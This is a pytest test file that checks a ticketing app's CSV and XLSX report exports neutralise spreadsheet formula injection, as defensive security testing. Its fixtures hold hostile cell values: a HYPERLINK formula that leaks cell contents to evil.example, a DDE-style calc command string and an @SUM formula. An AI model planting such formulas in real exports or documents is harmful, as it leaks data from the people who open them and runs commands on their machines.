"""Report exports neutralise formulas: a ticket title, a unit or a handler's name that starts
like a formula is written as inert text in the drill-down and the breakdown, CSV and XLSX."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest
import sqlalchemy as sa

from app.extensions import db
from app.reports import export, tables
from app.reports.periods import parse_period
from app.reports.queries import Dimension, Fact, Scope, Subset, breakdown, drill_rows
from app.reports.views import context_for
from app.sla.services import load_calendar
from app.tickets.models import Ticket

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?d="&A2,"点击查看")'
HOSTILE_UNIT = "+商务局|' /C calc'!A0"
HOSTILE_HANDLER = "@SUM(1+1)"


@pytest.fixture
def hostile(month):
    db.session.execute(sa.update(Ticket).where(Ticket.id == month.tickets["T1"].id)
                       .values(title=HOSTILE_TITLE))
    month.unit_a.name = HOSTILE_UNIT
    month.handler_a.display_name = HOSTILE_HANDLER
    db.session.commit()
    return month


def _context():
    return context_for(parse_period({"period": "month", "start": "2026-03-01"}), Scope())


def _written(table, fmt) -> bytes:
    handle = io.BytesIO()
    export.write(table, fmt, handle)
    return handle.getvalue()


def _drill(fmt) -> bytes:
    ctx = _context()
    rows = drill_rows(Fact.INTAKE, Subset.ALL, ctx)
    return _written(tables.drill_table(rows, Fact.INTAKE, "Tickets", load_calendar(), ctx.now),
                    fmt)


def _breakdown(by, fmt) -> bytes:
    return _written(tables.breakdown_table(breakdown(_context(), by)), fmt)


def _xlsx_texts(content: bytes) -> dict[str, object]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
    return {c.value: c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}


def test_a_hostile_ticket_title_is_inert_in_the_drill_down_export(hostile):
    cells = _xlsx_texts(_drill("xlsx"))
    assert cells[HOSTILE_TITLE].data_type == "s" and cells[HOSTILE_TITLE].quotePrefix
    assert cells[HOSTILE_UNIT].quotePrefix and cells[HOSTILE_HANDLER].quotePrefix
    text = _drill("csv").decode("utf-8-sig")
    values = [v for line in csv.reader(io.StringIO(text)) for v in line]
    assert "'" + HOSTILE_TITLE in values and HOSTILE_TITLE not in values
    assert "'" + HOSTILE_UNIT in values and "'" + HOSTILE_HANDLER in values


@pytest.mark.parametrize("by, name", [(Dimension.UNIT, HOSTILE_UNIT),
                                      (Dimension.HANDLER, HOSTILE_HANDLER)])
def test_hostile_group_names_are_inert_in_the_breakdown_export(hostile, by, name):
    cells = _xlsx_texts(_breakdown(by, "xlsx"))
    assert cells[name].quotePrefix
    lines = list(csv.reader(io.StringIO(_breakdown(by, "csv").decode("utf-8-sig"))))
    assert "'" + name in [line[0] for line in lines]
    numbers = next(line for line in lines if line[0] == "'" + name)[1:]
    assert not any(v.startswith(("'", "\t")) for v in numbers)  # the figures stay numbers
